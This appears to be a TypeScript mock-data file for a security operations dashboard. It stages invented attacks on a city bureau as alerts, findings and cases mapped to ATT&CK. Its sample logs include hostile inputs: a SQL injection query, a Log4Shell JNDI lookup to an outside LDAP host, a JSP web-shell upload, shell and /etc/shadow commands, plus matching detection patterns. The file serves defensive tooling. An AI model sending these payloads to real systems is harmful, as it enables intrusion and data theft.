/**
 * Invented telemetry of a city bureau for component development: a few attacks told alert by alert, in documentation
 * address ranges, with the shapes the API answers. Times hang on the moment the mock starts.
 */
import { createHash } from 'node:crypto'

type Severity = 'informational' | 'low' | 'medium' | 'high' | 'critical'

interface Rule {
  id: string
  title: string
  title_zh: string
  description_zh: string
  severity: Severity
  tactic: string
  technique: [string, string]
  sub?: [string, string]
  product: string
}

export const SEVERITY_IDS: Record<Severity, number> = { informational: 1, low: 2, medium: 3, high: 4, critical: 5 }

export const TACTICS: Record<string, [string, string]> = {
  TA0043: ['Reconnaissance', '侦察'],
  TA0001: ['Initial Access', '初始访问'],
  TA0002: ['Execution', '执行'],
  TA0003: ['Persistence', '持久化'],
  TA0004: ['Privilege Escalation', '权限提升'],
  TA0005: ['Defense Evasion', '防御规避'],
  TA0006: ['Credential Access', '凭据获取'],
  TA0007: ['Discovery', '发现'],
  TA0008: ['Lateral Movement', '横向移动'],
  TA0011: ['Command and Control', '命令与控制'],
  TA0010: ['Exfiltration', '数据渗出'],
}

const RULES = {
  scan: rule('3f0c1e52', 'Many Paths Not Found From One Address', '单一地址大量访问不存在的路径', '同一来源在一分钟内请求了大量不存在的路径，符合目录扫描特征。', 'low', 'TA0043', ['T1595', 'Active Scanning'], ['T1595.003', 'Wordlist Scanning'], 'nginx'),
  sqli: rule('8a41c7d0', 'SQL Injection In Query String', '查询串中的 SQL 注入', '请求参数中出现 SQL 语句片段，攻击者可能在试探或利用注入点读取数据库。', 'high', 'TA0001', ['T1190', 'Exploit Public-Facing Application'], undefined, 'nginx'),
  jndi: rule('d77be31a', 'JNDI Lookup In Request', '请求中的 JNDI 查找', '请求头或参数中出现 JNDI 查找表达式，可导致远程代码执行。', 'critical', 'TA0001', ['T1190', 'Exploit Public-Facing Application'], undefined, 'modsecurity'),
  upload: rule('51f0a9be', 'Script Uploaded To Web Directory', '向站点目录上传脚本文件', '上传接口收到可执行脚本，且响应成功。', 'high', 'TA0003', ['T1505', 'Server Software Component'], ['T1505.003', 'Web Shell'], 'nginx'),
  webshell: rule('0b6d2f94', 'Shell Spawned By Web Server', 'Web 服务进程派生命令解释器', 'Web 服务进程直接执行了命令解释器，通常意味着网页后门正在被使用。', 'critical', 'TA0002', ['T1059', 'Command and Scripting Interpreter'], ['T1059.004', 'Unix Shell'], 'auditd'),
  brute: rule('c92e4410', 'SSH Password Guessing', 'SSH 口令猜测', '同一来源在十分钟内多次登录失败，超过阈值。', 'medium', 'TA0006', ['T1110', 'Brute Force'], ['T1110.001', 'Password Guessing'], 'openssh'),
  success: rule('e4a7d8f3', 'SSH Login After Failures', '多次失败后 SSH 登录成功', '口令猜测之后同一来源登录成功，账号口令可能已经泄露。', 'high', 'TA0001', ['T1078', 'Valid Accounts'], undefined, 'openssh'),
  sudo: rule('7710bb2c', 'Sudo To Root Shell', 'sudo 取得 root 命令行', '普通账号通过 sudo 直接打开 root 命令行。', 'medium', 'TA0004', ['T1548', 'Abuse Elevation Control Mechanism'], ['T1548.003', 'Sudo and Sudo Caching'], 'sudo'),
  shadow: rule('19cd55e1', 'Shadow File Read', '读取影子口令文件', '非常规进程读取 /etc/shadow，可能在窃取口令散列。', 'high', 'TA0006', ['T1003', 'OS Credential Dumping'], ['T1003.008', '/etc/passwd and /etc/shadow'], 'auditd'),
  lsass: rule('a5b3910f', 'LSASS Memory Access', '访问 LSASS 进程内存', '进程以读内存权限打开 lsass.exe，可能在转储凭据。', 'critical', 'TA0006', ['T1003', 'OS Credential Dumping'], ['T1003.001', 'LSASS Memory'], 'windows-sysmon'),
  psexec: rule('66e2fd07', 'Service Installed Over The Network', '远程安装服务', '目标主机上新建了由远程会话安装的服务，常见于横向移动工具。', 'high', 'TA0008', ['T1021', 'Remote Services'], ['T1021.002', 'SMB/Windows Admin Shares'], 'windows-system'),
  clear: rule('2d8cf6a4', 'Event Log Cleared', '清除安全日志', '安全日志被清空，可能在掩盖痕迹。', 'high', 'TA0005', ['T1070', 'Indicator Removal'], ['T1070.001', 'Clear Windows Event Logs'], 'windows-security'),
  dns: rule('b1407ce9', 'DNS Tunnelling By Long Labels', 'DNS 隧道：超长子域名', '短时间内对同一域名的大量超长子域名查询，可能在外传数据。', 'medium', 'TA0011', ['T1071', 'Application Layer Protocol'], ['T1071.004', 'DNS'], 'suricata'),
  exfil: rule('f38a620d', 'Large Upload To Unusual Host', '向少见地址大量上传', '内部主机向从未通信过的外部地址上传了大量数据。', 'high', 'TA0010', ['T1041', 'Exfiltration Over C2 Channel'], undefined, 'zeek'),
  whoami: rule('94d1c06e', 'Reconnaissance Commands', '主机探测命令', '短时间内连续执行多条系统与账号探测命令。', 'low', 'TA0007', ['T1082', 'System Information Discovery'], undefined, 'auditd'),
}

function rule(
  short: string,
  title: string,
  title_zh: string,
  description_zh: string,
  severity: Severity,
  tactic: string,
  technique: [string, string],
  sub: [string, string] | undefined,
  product: string,
): Rule {
  const id = `${short}-2c4e-4b61-9d0a-${createHash('sha256').update(title).digest('hex').slice(0, 12)}`
  return { id, title, title_zh, description_zh, severity, tactic, technique, ...(sub ? { sub } : {}), product }
}

interface Match {
  selection: string
  field: string
  value: string
  pattern: string
}

export interface Entity {
  kind: string
  value: string
  role: 'actor' | 'target' | 'related'
}

interface Told {
  rule: Rule
  /** Minutes before now. */
  ago: number
  file: string
  record: number
  raw: string
  matches: Match[]
  entities: Entity[]
  outcome?: string
  direction?: string
  count?: number
  group?: { field: string; value: string }[]
}

const actor = (kind: string, value: string): Entity => ({ kind, value, role: 'actor' })
const target = (kind: string, value: string): Entity => ({ kind, value, role: 'target' })
const related = (kind: string, value: string): Entity => ({ kind, value, role: 'related' })

const uid = (...parts: unknown[]) => createHash('sha256').update(parts.join('/')).digest('hex').slice(0, 32)

const ATTACKER = '203.0.113.77'
const PORTAL = 'zwfw-portal-02'
const uri = '/zwfw/query?id=1%27%20UNION%20SELECT%20name,idcard%20FROM%20t_person--'

const WEB: Told[] = [
  told(RULES.scan, 186, 'nginx/zwfw-portal-02', 88412, `${ATTACKER} - - [-] "GET /zwfw/backup.zip HTTP/1.1" 404 153 "-" "Mozilla/5.0"`, [match('selection', 'status', '404', "sc-status: 404")], [actor('address', ATTACKER), target('host', PORTAL)], { count: 412, outcome: 'attempt', direction: 'inbound', group: [{ field: 'remote_addr', value: ATTACKER }] }),
  told(RULES.sqli, 171, 'nginx/zwfw-portal-02', 91077, `${ATTACKER} - - [-] "GET ${uri} HTTP/1.1" 200 48213 "-" "sqlmap/1.7"`, [match('keywords', 'request_uri', uri, "cs-uri-query|contains: 'UNION%20SELECT'"), match('tool', 'user_agent', 'sqlmap/1.7', "cs-user-agent|startswith: 'sqlmap'")], [actor('address', ATTACKER), target('host', PORTAL), target('domain', 'zwfw.example.gov.cn')], { count: 37, outcome: 'success', direction: 'inbound' }),
  told(RULES.jndi, 164, 'waf/modsec_audit', 4410, '{"transaction":{"client_ip":"203.0.113.77","id":"170912"},"request":{"uri":"/zwfw/login","headers":{"User-Agent":"${jndi:ldap://198.51.100.9:1389/a}"}},"response":{"http_code":403}}', [match('lookup', 'request.headers.User-Agent', '${jndi:ldap://198.51.100.9:1389/a}', "cs-user-agent|contains: '${jndi:'")], [actor('address', ATTACKER), target('host', PORTAL), related('address', '198.51.100.9')], { outcome: 'attempt', direction: 'inbound' }),
  told(RULES.upload, 142, 'nginx/zwfw-portal-02', 93310, `${ATTACKER} - - [-] "POST /zwfw/attach/upload?name=tb.jsp HTTP/1.1" 200 61 "-" "Mozilla/5.0"`, [match('upload', 'request_uri', '/zwfw/attach/upload?name=tb.jsp', "cs-uri-query|endswith: '.jsp'"), match('method', 'method', 'POST', 'cs-method: POST'), match('success', 'status', '200', 'sc-status: 200')], [actor('address', ATTACKER), target('host', PORTAL)], { outcome: 'success', direction: 'inbound' }),
  told(RULES.webshell, 139, 'audit/zwfw-portal-02', 5521, 'type=SYSCALL msg=audit(1764.221:8812): syscall=59 exe="/usr/bin/dash" comm="sh" ppid=2210 uid=33 type=EXECVE a0="sh" a1="-c" a2="id;uname -a"', [match('parent', 'SYSCALL.comm', 'sh', "comm: sh"), match('web', 'SYSCALL.uid', '33', 'uid: 33'), match('cmd', 'EXECVE.a2', 'id;uname -a', "a2|contains: 'uname'")], [target('host', PORTAL), actor('user', 'www-data'), actor('process', '/usr/bin/dash')], { outcome: 'compromise', direction: 'lateral' }),
  told(RULES.whoami, 138, 'audit/zwfw-portal-02', 5530, 'type=EXECVE a0="cat" a1="/etc/hosts"', [match('commands', 'EXECVE.a0', 'cat', 'a0: cat')], [target('host', PORTAL), actor('user', 'www-data')], { count: 9, group: [{ field: 'node', value: PORTAL }] }),
  told(RULES.shadow, 121, 'audit/zwfw-portal-02', 5688, 'type=PATH name="/etc/shadow" nametype=NORMAL', [match('file', 'PATH.name', '/etc/shadow', 'name: /etc/shadow')], [target('host', PORTAL), actor('user', 'root'), related('file', '/etc/shadow')], { outcome: 'success' }),
  told(RULES.exfil, 64, 'zeek/conn', 771203, '{"_path":"conn","id.orig_h":"10.18.4.22","id.resp_h":"198.51.100.9","orig_bytes":734003200,"service":"ssl"}', [match('volume', 'orig_bytes', '734003200', 'orig_bytes|gte: 104857600')], [actor('host', PORTAL), actor('address', '10.18.4.22'), target('address', '198.51.100.9')], { outcome: 'success', direction: 'outbound' }),
]

const SSH: Told[] = [
  told(RULES.brute, 47, 'syslog/jump-01', 20113, "sshd[2211]: Failed password for gongcheng from 198.51.100.23 port 52114 ssh2", [match('failed', 'syslog.auth.result', 'failure', 'result: failure')], [actor('address', '198.51.100.23'), target('host', 'jump-01'), target('user', 'gongcheng')], { count: 1284, outcome: 'attempt', direction: 'inbound', group: [{ field: 'syslog.auth.src_ip', value: '198.51.100.23' }] }),
  told(RULES.success, 31, 'syslog/jump-01', 21540, 'sshd[2390]: Accepted password for gongcheng from 198.51.100.23 port 53312 ssh2', [match('accepted', 'syslog.message', 'Accepted password for gongcheng from 198.51.100.23 port 53312 ssh2', "message|startswith: 'Accepted password'")], [actor('address', '198.51.100.23'), target('host', 'jump-01'), target('user', 'gongcheng')], { outcome: 'success', direction: 'inbound' }),
  told(RULES.sudo, 29, 'syslog/jump-01', 21552, 'sudo: gongcheng : TTY=pts/1 ; PWD=/home/gongcheng ; USER=root ; COMMAND=/bin/bash', [match('shell', 'syslog.auth.command', '/bin/bash', "command|endswith: '/bash'")], [target('host', 'jump-01'), actor('user', 'gongcheng')], { outcome: 'success' }),
]

const AD: Told[] = [
  told(RULES.lsass, 402, 'evtx/oa-app-03', 118233, '<Event><System><EventID>10</EventID><Computer>oa-app-03</Computer></System><EventData><Data Name="TargetImage">C:\\Windows\\System32\\lsass.exe</Data></EventData></Event>', [match('target', 'Event.EventData.TargetImage', 'C:\\Windows\\System32\\lsass.exe', "TargetImage|endswith: '\\lsass.exe'"), match('access', 'Event.EventData.GrantedAccess', '0x1410', "GrantedAccess: '0x1410'")], [target('host', 'oa-app-03'), actor('process', 'C:\\Users\\Public\\tool\u202Excod.exe'), actor('user', 'oa\\svc_report')], { outcome: 'success' }),
  told(RULES.psexec, 391, 'evtx/gjj-file-01', 9921, '<Event><System><EventID>7045</EventID></System></Event>', [match('service', 'Event.EventData.ServiceName', 'PSEXESVC', "ServiceName|startswith: 'PSEXE'")], [target('host', 'gjj-file-01'), actor('host', 'oa-app-03'), actor('user', 'oa\\svc_report')], { direction: 'lateral', outcome: 'success' }),
  told(RULES.clear, 377, 'evtx/gjj-file-01', 9977, '<Event><System><EventID>1102</EventID></System></Event>', [match('cleared', 'Event.System.EventID', '1102', 'EventID: 1102')], [target('host', 'gjj-file-01'), actor('user', 'oa\\svc_report')], { outcome: 'success' }),
]

const DNS: Told[] = [
  told(RULES.dns, 905, 'suricata/eve', 550120, '{"event_type":"dns","dns":{"rrname":"a9f3e1c07d5b42aa8e1190cc7d.t.example.net","rrtype":"TXT"}}', [match('long', 'dns.rrname', 'a9f3e1c07d5b42aa8e1190cc7d.t.example.net', "query|re: '^[a-f0-9]{24,}\\.'")], [actor('address', '10.20.7.145'), related('domain', 't.example.net')], { count: 2210, outcome: 'success', direction: 'outbound', group: [{ field: 'src_ip', value: '10.20.7.145' }] }),
]

const NOISE: Told[] = Array.from({ length: 60 }, (_, index) => {
  const address = `192.0.2.${(index * 37) % 250}`
  const kind = [RULES.scan, RULES.brute, RULES.sqli, RULES.whoami][index % 4] ?? RULES.scan
  return told(kind, 20 + index * 22, 'nginx/www-01', 1000 + index * 13, `${address} - - [-] "GET /index.php?s=/index/think HTTP/1.1" 404 153`, [match('selection', 'request_uri', `/index.php?s=/index/think&n=${index}`, "cs-uri-query|contains: '/index/think'")], [actor('address', address), target('host', ['www-01', 'mail-02', 'zwy-api-04'][index % 3] ?? 'www-01')], { outcome: 'attempt', direction: 'inbound', count: 1 + ((index * 7) % 30) })
})

function match(selection: string, field: string, value: string, pattern: string): Match {
  return { selection, field, value, pattern }
}

function told(
  of: Rule,
  ago: number,
  file: string,
  record: number,
  raw: string,
  matches: Match[],
  entities: Entity[],
  more: Partial<Told> = {},
): Told {
  return { rule: of, ago, file, record, raw, matches, entities, ...more }
}

export function findingOf(one: Told, start: number, incident?: string) {
  const time = start - one.ago * 60_000
  const eventUid = uid('event', one.file, one.record)
  const [tacticName] = TACTICS[one.rule.tactic] ?? ['']
  return {
    class_uid: 2004,
    severity_id: SEVERITY_IDS[one.rule.severity],
    time,
    start_time: time - ((one.count ?? 1) > 1 ? 240_000 : 0),
    end_time: time,
    count: one.count ?? 1,
    metadata: { uid: uid('finding', one.rule.id, one.file, one.record) },
    finding_info: {
      uid: uid('finding', one.rule.id, one.file, one.record),
      title: one.rule.title,
      desc: one.rule.title,
      attacks: [
        {
          tactic: { uid: one.rule.tactic, name: tacticName },
          technique: { uid: one.rule.technique[0], name: one.rule.technique[1] },
          ...(one.rule.sub ? { sub_technique: { uid: one.rule.sub[0], name: one.rule.sub[1] } } : {}),
        },
      ],
      analytic: { uid: one.rule.id, name: one.rule.title, version: '1' },
      related_events: [{ uid: eventUid }],
    },
    evidences: [
      { data: { file: one.file, record: one.record, matches: one.matches, event_uid: eventUid, time: new Date(time).toISOString(), product: one.rule.product } },
    ],
    observables: one.entities.map(({ kind, value }) => ({ name: kind, value })),
    unmapped: {
      direction: one.direction ?? 'unknown',
      outcome: one.outcome ?? 'unknown',
      title_zh: one.rule.title_zh,
      description_zh: one.rule.description_zh,
      falsepositives: ['安全扫描服务的例行检查'],
      group: one.group ?? [],
      ...(incident ? { incident } : {}),
    },
  }
}

export function eventOf(one: Told, start: number) {
  const time = start - one.ago * 60_000
  const source = one.entities.find(({ kind, role }) => kind === 'address' && role === 'actor')?.value
  const host = one.entities.find(({ kind, role }) => kind === 'host' && role === 'target')?.value
  const isWeb = one.file.startsWith('nginx') || one.file.startsWith('waf')
  return {
    class_uid: isWeb ? 4002 : 1007,
    class_name: isWeb ? 'HTTP Activity' : 'Process Activity',
    activity_name: 'Other',
    severity_id: 1,
    time,
    message: one.raw.length > 160 ? one.raw.slice(0, 160) : one.raw,
    ...(source ? { src_endpoint: { ip: source, port: 52114 } } : {}),
    ...(host ? { device: { hostname: host } } : {}),
    raw_data: one.raw,
    unmapped: Object.fromEntries(one.matches.map(({ field, value }) => [field, value])),
    metadata: {
      uid: uid('event', one.file, one.record),
      logged_time: time + 900,
      log_provider: one.file.split('/')[0] ?? '',
      product: { name: one.rule.product, vendor_name: 'Mock', uid: one.rule.product },
    },
  }
}

export interface Case {
  id: string
  title: string
  title_zh: string
  state: string
  tells: Told[]
  notes: { by: string; minutesAgo: number; kind: 'note' | 'state'; from?: string; to?: string; note: string }[]
}

export const CASES: Case[] = [
  { id: uid('case', 'web'), title: `Shell Spawned By Web Server on ${PORTAL}`, title_zh: `${PORTAL}：Web 服务进程派生命令解释器`, state: 'in_progress', tells: WEB, notes: [{ by: 'zhangwei', minutesAgo: 118, kind: 'state', from: 'new', to: 'in_progress', note: '已电话通知政务服务中心值班员，先行核实上传接口。' }, { by: 'zhangwei', minutesAgo: 90, kind: 'note', note: '确认 /zwfw/attach/ 目录下存在 tb.jsp，非业务文件。已留存样本，待下线节点。' }] },
  { id: uid('case', 'ssh'), title: 'SSH Login After Failures on jump-01', title_zh: 'jump-01：多次失败后 SSH 登录成功', state: 'new', tells: SSH, notes: [] },
  { id: uid('case', 'ad'), title: 'LSASS Memory Access on oa-app-03', title_zh: 'oa-app-03：访问 LSASS 进程内存', state: 'new', tells: AD, notes: [] },
  { id: uid('case', 'dns'), title: 'DNS Tunnelling from 10.20.7.145', title_zh: '10.20.7.145：DNS 隧道', state: 'on_hold', tells: DNS, notes: [{ by: 'lina', minutesAgo: 700, kind: 'state', from: 'new', to: 'on_hold', note: '等待资产归属部门确认该地址用途。' }] },
]

export { NOISE }
export type { Told }
